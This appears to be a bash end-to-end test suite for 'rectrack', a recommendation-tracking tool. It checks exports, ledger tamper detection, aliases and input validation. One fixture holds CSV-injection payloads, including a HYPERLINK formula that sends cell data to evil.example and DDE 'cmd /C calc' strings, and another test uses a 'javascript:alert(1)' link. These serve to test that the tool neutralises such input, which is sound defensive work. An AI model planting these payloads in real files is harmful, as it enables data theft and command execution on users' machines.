#!/usr/bin/env bash
# End-to-end checks of the executable on real stores (SQLite files, or with
# RECTRACK_TEST_PG PostgreSQL schemas: tests/lib/store.sh): lossless export,
# publications reproduced byte for byte, aliases, copies between stores, and
# the ledger catching edits made behind rectrack's back (sqlite3, psql).
# Usage: cli_e2e.sh RECTRACK REPO_ROOT
set -uo pipefail
BIN="$(cd "$(dirname "$1")" && pwd)/$(basename "$1")"
ROOT="$(cd "$2" && pwd)"
. "$ROOT/tests/lib/store.sh"
WORK="$(mktemp -d)"; trap 'rm -rf "$WORK"' EXIT
cd "$WORK"
pass=0; fail=0
ok() { pass=$((pass + 1)); echo "ok   $1"; }
bad() { fail=$((fail + 1)); echo "FAIL $1"; }
check() { local name="$1"; shift; if "$@"; then ok "$name"; else bad "$name"; fi; }
rt() { "$BIN" --db "$(store_at "$DB")" --key-file "$DB.key" "$@"; }
# The same, for a store named in the arguments: rtx FILE ARGS...
rtx() { local f="$1"; shift; "$BIN" --db "$(store_at "$f")" --key-file "$f.key" "$@"; }
echo "engine: $TEST_ENGINE"

# --- A mistyped --db is refused, and nothing is made there: `init` or --create make a store.
DB=typo.db
rt list >/dev/null 2>err.txt; rc=$?
check "a command on a store that is not there fails (exit $rc)" test "$rc" = 1
check "and says so, and how to make one ($(head -c 200 err.txt))" grep -q 'rectrack init` makes one (or give --create)' err.txt
if [ "$TEST_ENGINE" = sqlite ]; then
  check "and no file is made" test ! -e typo.db
else
  check "and no table is made" test "$(store_sql typo.db "SELECT count(*) FROM pg_tables WHERE schemaname = current_schema()")" = 0
fi
rt --create import json "$ROOT/examples/harris/harris-2016.json" >/dev/null; rc=$?
check "--create makes it (exit $rc)" test "$rc" = 0
check "and the import is in it" test "$(rt list --source harris-2016 --format csv | wc -l)" = 24
rt list --source harris-2016 >/dev/null; rc=$?
check "after which it opens as any store" test "$rc" = 0

# --- Lossless export: export json -> import into an empty store -> export again.
DB=a.db
rt init >/dev/null
rt import json "$ROOT/examples/harris/harris-2016.json" >/dev/null
rt import pfd "$ROOT/tests/fixtures/pfd-sample.csv" >/dev/null
rt import upr "$ROOT/tests/fixtures/upr-2011-sample.csv" >/dev/null
rt update harris-2016 G4 --owner "Home Office" --date 2018-01-10 --status in_progress \
  --note "Guidance with ministers" --evidence https://example.org/a --evidence https://example.org/b >/dev/null
rt owner alias "Home Secretary" "Home Office" >/dev/null
rt export json -o export1.json
rt export csv -o export1.csv
DB=b.db
rt init >/dev/null
rt import json export1.json >/dev/null
rt export json -o export2.json
rt export csv -o export2.csv
check "export json -> import -> export json is byte-identical" cmp -s export1.json export2.json
check "export csv is byte-identical after the round trip" cmp -s export1.csv export2.csv
check "the export holds the update's evidence" grep -q "https://example.org/b" export1.json
check "the export holds the alias" grep -q '"Home Secretary"' export1.json
# export csv: each row the assignment's state now, with its updates (issue 9, defect 1).
g4="$(grep '^harris-2016,.*,G4,.*,Home Office,' export1.csv)"
check "export csv shows the current implementation status ($g4)" grep -q ',in_progress,' <<<"$g4"
check "and the last update's date and note" grep -q ',2018-01-10,Guidance with ministers$' <<<"$g4"
rt export csv --as-of 2018-01-09 -o before.csv
g4="$(grep '^harris-2016,.*,G4,.*,Home Office,' before.csv)"
check "export csv --as-of the day before shows the state then ($g4)" grep -q ',not_started,.*,1,2017-10-25,' <<<"$g4"

# --- Publications reproduce byte for byte, whatever changes later.
DB=a.db
for f in md html json; do rt report --publication 2 --format $f -o pub2.$f; done
rt update harris-2016 G3 --owner "Home Office" --date 2017-10-01 --status implemented \
  --note "Backdated: it was done before the update" >/dev/null
rt owner tier "Port of London Authority" regulator >/dev/null
for f in md html json; do
  rt report --publication 2 --format $f -o again.$f
  check "publication 2 ($f) is byte-identical after later edits" cmp -s pub2.$f again.$f
done
rt report harris-2016 --as-of 2017-10-25 --format md -o live.md
check "the live report sees the backdated change" bash -c "! cmp -s pub2.md live.md"
check "publication HTML has the SVG charts" grep -q '<svg' pub2.html
check "publication JSON pins the ledger" grep -q '"ledger_hash": "[0-9a-f]\{64\}"' pub2.json

# --- The ledger catches edits behind the tool's back.
DB=a.db
rt verify >/dev/null; rc=$?
check "a clean store verifies" test "$rc" = 0
store_copy a.db pristine.db
tamper() {  # NAME SQL EXPECTED-MESSAGE
  store_copy pristine.db t.db
  store_sql t.db "$(store_drop_triggers) $2" >/dev/null || { bad "$1: the SQL failed"; return; }
  rtx t.db verify >out 2>err; local rc=$?
  if ((rc == 3)) && grep -qF -- "$3" err; then ok "verify names $1: $(grep -m1 -F -- "$3" err | head -c 140)"
  else bad "$1: exit $rc"; cat err; fi
}
tamper "an edited event" "UPDATE ledger SET payload = replace(payload, 'Guidance', 'Nothing') WHERE kind = 'update'" "was altered"
tamper "an edited actor" "UPDATE ledger SET actor = 'cli:someone-else' WHERE seq = 2" "event 2 "
tamper "a deleted event" "DELETE FROM ledger WHERE seq = 3" "are missing"
tamper "an inserted event" "UPDATE ledger SET seq = seq + 100 WHERE seq >= 4; UPDATE ledger SET seq = seq - 99 WHERE seq >= 104; INSERT INTO ledger(seq, ts, actor, kind, payload, prev_hash, hash, scheme) VALUES (4, '2020-01-01T00:00:00.000Z', 'cli:x', 'update', '{}', (SELECT hash FROM ledger WHERE seq = 3), 'ab', 2)" "event 4"
tamper "reordered events" "UPDATE ledger SET seq = -1 WHERE seq = 2; UPDATE ledger SET seq = 2 WHERE seq = 3; UPDATE ledger SET seq = 3 WHERE seq = -1" "event 2 "
tamper "a truncated tail" "DELETE FROM ledger WHERE seq = (SELECT max(seq) FROM ledger)" "removed from the end"
tamper "an edited publication" "UPDATE publications SET snapshot = replace(snapshot, '\"implemented\": 7', '\"implemented\": 9') WHERE id = 2" "publications, id 2, column snapshot: differs from byte"
store_copy pristine.db t.db
if store_sql t.db "UPDATE ledger SET actor = 'x' WHERE seq = 1" >/dev/null 2>&1; then
  bad "the append-only trigger refuses an edit"
else
  ok "the append-only trigger refuses an edit"
fi

# --- The signing key: rotated, the old publications still verify.
store_copy a.db k.db
old_key=$(rtx k.db key show | head -1 | cut -d' ' -f1)
rtx k.db key rotate >rotate.out 2>&1; rc=$?
check "key rotate makes a new key endorsed by the old (exit $rc)" bash -c "[ $rc = 0 ] && grep -q 'endorsed by the previous key $old_key' rotate.out"
check "key show lists both keys" test "$(rtx k.db key show | wc -l)" = 2
check "the key file now holds the new key" bash -c "! grep -q \"$old_key\" k.db.key"
rtx k.db report --publication 2 --format md -o k-pub2.md
check "an old publication still verifies and reproduces" cmp -s pub2.md k-pub2.md
rtx k.db verify --key "$old_key" >/dev/null; rc=$?
check "the store verifies after the rotation, pinned to the first key" test "$rc" = 0

# --- Aliases merge only when asked.
DB=c.db
rt init >/dev/null
printf 'ref,text,owner\n1,Do a thing,DCLG\n2,Do another,Department for Communities and Local Government\n' >two-names.csv
rt import csv two-names.csv --map ref=ref --map text=text --map owner=owner --source-title Names >/dev/null
check "two spellings stay two owners" test "$(rt owners --format csv | wc -l)" = 3
rt owner alias DCLG "Department for Communities and Local Government" >/dev/null 2>err.txt; rc=$?
check "an owner of its own becomes an alias only with --merge (exit $rc)" bash -c "[ $rc -ne 0 ] && grep -q -- '--merge' err.txt"
rt owner alias DCLG "Department for Communities and Local Government" --merge >/dev/null
rt owners --format csv >owners.csv
check "after an alias they are one owner with both" grep -q '^Department for Communities and Local Government,unclassified,2,' owners.csv
printf 'alias,owner\nMHCLG,Department for Communities and Local Government\n' >aliases.csv
printf 'ref,text,owner\n1,Third,MHCLG\n' >third.csv
rt import csv third.csv --map ref=ref --map text=text --map owner=owner --source-title Third --aliases aliases.csv >/dev/null
rt owners --format csv >owners.csv
check "an aliases file given to an import resolves names" grep -q '^Department for Communities and Local Government,unclassified,3,' owners.csv
check "the ledger records each alias" test "$(store_sql c.db "SELECT count(*) FROM ledger WHERE kind = 'alias'")" = 1

# --- The real datasets whole: all 4,926 PFD reports and all four UPR files.
DB=full.db
rt init >/dev/null
rt import pfd "$ROOT/examples/pfd/pfd-reports.csv" >/dev/null
for y in 2008 2009 2010 2011; do rt import upr "$ROOT/tests/fixtures/upr/upr-$y.csv" >/dev/null; done
check "all 4,926 PFD reports are sources" test "$(store_sql full.db "SELECT count(*) FROM sources WHERE kind = 'pfd'")" = 4926
check "all 19,891 UPR recommendations are in" test "$(store_sql full.db "SELECT count(*) FROM recommendations r JOIN sources s ON s.id = r.source_id WHERE s.kind = 'upr'")" = 19891
COTE=$'C\xc3\xb4te d\xe2\x80\x99Ivoire'  # as decoded from Mac OS Roman 0x99 and 0xD5
cote=$(store_sql full.db "SELECT count(*) FROM recommendations WHERE text LIKE '%$COTE%'")
check "Mac OS Roman is decoded ($cote texts name $COTE)" test "$cote" -ge 10
rt verify >/dev/null; rc=$?
check "the full store verifies" test "$rc" = 0
rt export json -o full.json
rt rebuild "$(store_at rebuilt.db)" >rebuild.out 2>&1; rc=$?
check "rebuild makes a new store from the ledger alone (exit $rc)" bash -c "[ $rc = 0 ] && grep -q '^ledger OK' rebuild.out"
[ -f rebuilt.db.key ] || cp full.db.key rebuilt.db.key
rtx rebuilt.db export json -o rebuilt.json
check "the rebuilt store exports the same bytes (PFD and UPR data)" cmp -s full.json rebuilt.json
check "rebuild refuses a target that exists" bash -c "! '$BIN' --db '$(store_at full.db)' --key-file full.db.key rebuild '$(store_at rebuilt.db)' 2>/dev/null"

# --- copy: the whole tracker to the other engine and back, the same bytes and
# the same ledger; a copy is verified on arrival and a non-empty target refused.
if [ "$TEST_ENGINE" = postgres ]; then
  rt copy --to "$WORK/there.db" >copy1.out 2>&1; rc1=$?
  "$BIN" --db "$WORK/there.db" copy --to "$(store_at back.db)" >copy2.out 2>&1; rc2=$?
  other=SQLite
else
  other=PostgreSQL
  # Only with a cluster to copy to: the PostgreSQL run does both directions.
  rc1=skip
fi
if [ "$rc1" != skip ]; then
  check "copy to $other verifies on arrival (exit $rc1)" bash -c "[ $rc1 = 0 ] && grep -q '^ledger OK' copy1.out"
  check "copy back verifies on arrival (exit $rc2)" bash -c "[ $rc2 = 0 ] && grep -q '^ledger OK' copy2.out"
  "$BIN" --db "$WORK/there.db" export json -o there.json
  rtx back.db export json -o back.json
  check "the copies export the same bytes" bash -c "cmp -s full.json there.json && cmp -s full.json back.json"
  h1=$(store_sql full.db "SELECT hash FROM ledger ORDER BY seq DESC LIMIT 1")
  h2=$(sqlite3 there.db "SELECT hash FROM ledger ORDER BY seq DESC LIMIT 1")
  h3=$(store_sql back.db "SELECT hash FROM ledger ORDER BY seq DESC LIMIT 1")
  check "the ledger's head is the same on both engines ($h1)" bash -c "[ -n '$h1' ] && [ '$h1' = '$h2' ] && [ '$h1' = '$h3' ]"
  "$BIN" --db "$WORK/there.db" copy --to "$(store_at back.db)" >/dev/null 2>err.txt; rc=$?
  check "copy refuses a target that holds a tracker (exit $rc)" bash -c "[ $rc -ne 0 ] && grep -q 'holds a tracker already' err.txt"
fi

# --- RECTRACK_DB and the SQLite settings.
if [ "$TEST_ENGINE" = sqlite ]; then
  export RECTRACK_DB="$WORK/env.db"
  "$BIN" init >/dev/null
  check "RECTRACK_DB chooses the file" test -s "$WORK/env.db"
  check "the store is in WAL mode" bash -c "[ \"\$(sqlite3 '$WORK/env.db' 'PRAGMA journal_mode')\" = wal ]"
  unset RECTRACK_DB
else
  export RECTRACK_DB="$(store_at env.db)" RECTRACK_KEY_FILE="$WORK/env.db.key"
  "$BIN" init >/dev/null
  check "RECTRACK_DB chooses the database" test "$(store_sql env.db "SELECT count(*) FROM ledger")" = 1
  unset RECTRACK_DB RECTRACK_KEY_FILE
fi

# --- An alias clash between two imports: refused with the command that merges, nothing
# written; the command given, the import goes through.
DB=order.db
rt init >/dev/null
printf 'No,Recommendation,Owner\n1,Share intelligence within the hour.,Metropolitan Police\n' >met.csv
rt import csv met.csv --map ref=No --map text=Recommendation --map owner=Owner \
  --source-title "A review naming the Met its own way" >/dev/null
rt export json -o order-before.json
rt import json "$ROOT/examples/harris/harris-2016.json" >/dev/null 2>err.txt; rc=$?
check "an alias naming another owner is refused (exit $rc)" bash -c "[ $rc -ne 0 ] && grep -q \"rectrack owner alias 'Metropolitan Police' 'Metropolitan Police Service' --merge\" err.txt"
rt export json -o order-after.json
check "the refused import wrote nothing" cmp -s order-before.json order-after.json
rt owner alias 'Metropolitan Police' 'Metropolitan Police Service' --merge >/dev/null
rt import json "$ROOT/examples/harris/harris-2016.json" >/dev/null; rc=$?
check "after the merge it names, the import goes through" test "$rc" = 0
rt verify >/dev/null; rc=$?
check "and the store verifies" test "$rc" = 0

# --- Accounts from the command line: a password reset.
DB=users.db
rt init >/dev/null
printf 'first password 1\n' | rt user add pat --role viewer >/dev/null
h1=$(store_sql users.db "SELECT password_hash FROM users WHERE name = 'pat'")
printf 'short\n' | rt user password pat >/dev/null 2>err.txt; rc=$?
check "user password refuses a short password (exit $rc)" bash -c "[ $rc -ne 0 ] && grep -q 'at least 12 characters' err.txt"
printf 'long enough pw\n' | rt user password nobody-here >/dev/null 2>err.txt; rc=$?
check "user password names an unknown user (exit $rc)" bash -c "[ $rc -ne 0 ] && grep -q 'nobody-here' err.txt"
printf 'second password 2\n' | rt user password pat >out.txt
h2=$(store_sql users.db "SELECT password_hash FROM users WHERE name = 'pat'")
check "user password sets a new argon2id hash" bash -c "[ '$h1' != '$h2' ] && [[ '$h2' == '\$argon2id\$'* ]]"
store_sql users.db "SELECT payload FROM ledger WHERE kind = 'user_password'" >pw-event.txt
check "user password is a ledger event naming only the user" grep -qF '"about":{"user":"pat"}' pw-event.txt
store_sql users.db "SELECT payload FROM ledger" >payloads.txt
check "and holding the new hash's digest, never the hash" bash -c "grep -q \"\$(printf '%s' '$h2' | sha256sum | cut -c1-64)\" payloads.txt && ! grep -q argon2 payloads.txt"
rt verify >/dev/null; rc=$?
check "the store verifies after a password change" test "$rc" = 0

# --- Usage errors exit 2 and guess what a misspelt option or command meant.
DB=a.db
rt list --sorce harris-2016 >/dev/null 2>err.txt; rc=$?
check "a misspelt option exits 2 ($rc)" test "$rc" = 2
check "and says which was meant ($(tail -n 1 err.txt))" grep -qx "Did you mean --source?" err.txt
rt lst >/dev/null 2>err.txt; rc=$?
check "a misspelt command exits 2 ($rc)" test "$rc" = 2
check "and says which was meant ($(tail -n 1 err.txt))" grep -qx "Did you mean list?" err.txt
rt list --colour red >/dev/null 2>err.txt; rc=$?
check "an option like none exits 2 with no guess" bash -c "test $rc = 2 && ! grep -q 'Did you mean' err.txt"
rt list --limit >/dev/null 2>err.txt; rc=$?
check "an option without its value exits 2 ($rc)" test "$rc" = 2
rt --help >/dev/null 2>&1; rc=$?
check "--help exits 0 ($rc)" test "$rc" = 0

# --- Unknown values are errors that name the known ones; nothing is written.
DB=a.db
rt list --kind pdf >/dev/null 2>err.txt; rc=$?
check "list --kind pdf fails ($rc)" test "$rc" = 1
check "and names the store's kinds and the one meant ($(cat err.txt))" grep -q "(its kinds: pfd, review, upr); did you mean pfd?" err.txt
rt owners --kind nope >/dev/null 2>err.txt; rc=$?
check "owners --kind nope fails ($rc)" bash -c "test $rc = 1 && grep -q 'no source of that kind' err.txt"
rt search harris --limit -1 >/dev/null 2>&1; rc=$?
check "search --limit -1 is a usage error ($rc)" test "$rc" = 2
rt search harris --limit 0 >/dev/null 2>&1; rc=$?
check "search --limit 0 too ($rc)" test "$rc" = 2
rt report --publication 1 --as-of 2017-10-25 >/dev/null 2>err.txt; rc=$?
check "report --publication with --as-of is a usage error ($rc)" bash -c "test $rc = 2 && grep -q 'excludes' err.txt"
printf 'ref,text,owner\n1,Publish the plan,Met\n' >kind.csv
before="$(store_sql a.db "SELECT count(*) FROM ledger")"
rt import csv kind.csv --map ref=ref --map text=text --map owner=owner --source-title "Kinds" --source-kind inqiury >/dev/null 2>err.txt; rc=$?
check "import csv --source-kind inqiury fails ($rc)" test "$rc" = 1
check "and says which was meant ($(cat err.txt))" grep -q "did you mean inquiry?.*--new-kind" err.txt
check "and writes nothing" test "$(store_sql a.db "SELECT count(*) FROM ledger")" = "$before"
rt import csv kind.csv --map ref=ref --map text=text --map owner=owner --source-title "Kinds" --source-kind coroner --new-kind >/dev/null; rc=$?
check "--new-kind starts a kind of its own ($rc)" test "$rc" = 0
rt list --kind coroner --format csv >list.csv; rc=$?
check "which list --kind then knows ($rc)" test "$(wc -l <list.csv)" = 2

# --- Messages that say what is wrong, and where.
DB=a.db
rt update harris-2016 G4 --owner "Home Office" --date 2018-02-30 --status in_progress >/dev/null 2>err.txt; rc=$?
check "a bad --date is blamed on --date ($(cat err.txt))" bash -c "test $rc = 1 && grep -q \"^rectrack: error: --date: '2018-02-30' is not a calendar day\" err.txt"
rt update harris-2016 G4 --owner "Home Office" --status done >/dev/null 2>err.txt; rc=$?
check "update's unknown status word names the words there are ($(cat err.txt))" bash -c "test $rc = 1 && grep -q 'neither a word of this source' err.txt && grep -q 'implemented' err.txt"
check "and not --status-map, which update has not" bash -c "! grep -q -- '--status-map' err.txt"
rt update harris-2016 C1 --status in_progress >/dev/null 2>err.txt; rc=$?
check "a two-owner recommendation without --owner asks for it ($(cat err.txt))" bash -c "test $rc = 1 && grep -q 'has 2 owners: say which with --owner' err.txt"
rt list --as-of 2018-1-xx >/dev/null 2>err.txt
check "a date's form is shown as people write it ($(cat err.txt))" grep -q "of the form YYYY-MM-DD" err.txt
rt show nosuch G4 >/dev/null 2>err.txt; rc=$?
check "show with an unknown source says there is no such source ($(cat err.txt))" bash -c "test $rc = 1 && grep -q \"no source 'nosuch'\" err.txt"

# --- update checks what the form and the API check (issue 9, defect 3): nothing written.
DB=a.db
before="$(store_sql a.db "SELECT count(*) FROM ledger")"
G4=(update harris-2016 G4 --owner "Home Office")
rt "${G4[@]}" --status in_progress --evidence 'javascript:alert(1)' >/dev/null 2>err.txt; rc=$?
check "a javascript: evidence link is refused ($(cat err.txt))" bash -c "test $rc = 1 && grep -q -- '--evidence: Evidence must be web addresses' err.txt"
rt "${G4[@]}" --status in_progress --evidence ftp://example.org/file >/dev/null 2>err.txt; rc=$?
check "an ftp: one too ($rc)" test "$rc" = 1
rt "${G4[@]}" --status in_progress --date 2099-01-01 >/dev/null 2>err.txt; rc=$?
check "a date in the future is refused ($(cat err.txt))" bash -c "test $rc = 1 && grep -q -- '--date: The date of an update cannot be in the future' err.txt"
rt "${G4[@]}" --status in_progress --date 2016-01-01 >/dev/null 2>err.txt; rc=$?
check "a date before the recommendation was made is refused ($(cat err.txt))" bash -c "test $rc = 1 && grep -q 'before the recommendation was made (2016-10-28)' err.txt"
rt "${G4[@]}" --date 2018-01-10 --status in_progress --note "Guidance with ministers" \
  --evidence https://example.org/a --evidence https://example.org/b >/dev/null 2>err.txt; rc=$?
check "the same update twice is refused ($(cat err.txt))" bash -c "test $rc = 1 && grep -q 'already recorded' err.txt"
check "and none of them wrote anything" test "$(store_sql a.db "SELECT count(*) FROM ledger")" = "$before"

# --- rectrack sources lists them; an import says which it made.
DB=a.db
rt sources --format csv >sources.csv; rc=$?
check "sources lists every source ($rc)" test "$(wc -l <sources.csv)" = "$(( $(store_sql a.db "SELECT count(*) FROM sources") + 1 ))"
check "with its counts" grep -q '^harris-2016,review,2016-10-28,21,' sources.csv
rt sources --kind pfd --format json >sources.json
check "--kind keeps one kind" python3 -c "import json,sys; d=json.load(open('sources.json')); sys.exit(0 if d and all(s['kind']=='pfd' for s in d) else 1)"
DB=slugs.db
rt init >/dev/null
rt import json "$ROOT/examples/harris/harris-2016.json" >import.out
check "an import prints the slug it made ($(tail -n 1 import.out))" test "$(tail -n 1 import.out)" = "source: harris-2016"

# --- export-site refuses a folder that is not empty unless --force (issue 9).
DB=a.db
mkdir -p site && echo "mine" >site/keep.txt
rt export-site site >/dev/null 2>err.txt; rc=$?
check "export-site into a folder with files in it is refused ($(cat err.txt))" bash -c "test $rc = 1 && grep -q 'is not empty' err.txt"
check "and writes nothing there" test "$(ls site)" = keep.txt
rt export-site site --force >/dev/null; rc=$?
check "--force writes over it ($rc)" bash -c "test $rc = 0 && test -s site/index.html"
rt export-site new-site >/dev/null; rc=$?
check "a new folder is made ($rc)" bash -c "test $rc = 0 && test -s new-site/index.html"

# --- CSV cells that a spreadsheet would run are neutralised in every CSV output
# (issue 10); --keep-formulas gives the bytes as stored, for machines.
DB=formulas.db
rt init >/dev/null
cat >formulas.json <<'JSON'
{"format": "rectrack/1", "sources": [{"slug": "csv-injection", "kind": "review", "title": "A hostile file",
 "date": "2020-01-01", "recommendations": [
  {"ref": "F1", "text": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "made": "2020-01-01",
   "assignments": [{"owner": "@SUM(1+1)*cmd|' /C calc'!A0", "due": "2020-03-01"}]},
  {"ref": "F2", "text": "+cmd|' /C calc'!A0", "made": "2020-01-01", "assignments": [{"owner": "-2+3 Trust"}]}]}]}
JSON
rt import json formulas.json >/dev/null 2>err.txt; rc=$?
check "the hostile file imports ($rc: $(head -c 200 err.txt))" test "$rc" = 0
rt list --source csv-injection --format csv >list.csv
rt export csv -o export.csv
rt owners --format csv >owners.csv
for f in list.csv export.csv owners.csv; do
  check "$f: no cell starts a formula" bash -c "! grep -qE '(^|,)\"?[=+@]|(^|,)\"?-[^0-9]' $f"
  check "$f: the cells are there, neutralised" grep -qE "(^|,)\"?'(=HYPERLINK|@SUM|\\+cmd|-2\\+3)" "$f"
done
rt list --source csv-injection --format csv --keep-formulas >kept.csv
check "--keep-formulas keeps the bytes as stored" grep -qE '(^|,)"?=HYPERLINK' kept.csv
rt export json -o formulas-export.json
check "the JSON export is lossless" grep -q '"text": "=HYPERLINK' formulas-export.json

# --- -o to a pipe or a device writes into it, and leaves it one: a temporary
# file renamed over it would have replaced it (`-o /dev/null` once made
# /dev/null a plain file).
mkfifo out.fifo
timeout 20 cat out.fifo >from-fifo.json &
reader=$!
rt export json -o out.fifo 2>err.txt; rc=$?
wait "$reader"
check "export json -o FIFO (exit $rc: $(head -c 200 err.txt))" test "$rc" = 0
check "the reader got the export" cmp -s from-fifo.json formulas-export.json
check "and the FIFO is still a FIFO" test -p out.fifo
timeout 20 cat out.fifo >from-fifo.md &
reader=$!
rt report csv-injection -o out.fifo 2>err.txt; rc=$?
wait "$reader"
check "a streamed report -o FIFO (exit $rc: $(head -c 200 err.txt))" test "$rc" = 0
check "is written into it" cmp -s from-fifo.md <(rt report csv-injection)
check "which stays a FIFO" test -p out.fifo
mkdir outdir
rt export json -o outdir 2>err.txt; rc=$?
check "-o a directory is refused (exit $rc)" test "$rc" = 1
check "saying so ($(head -c 100 err.txt))" grep -q 'outdir: is a directory' err.txt

echo "$pass passed, $fail failed"
((fail == 0))
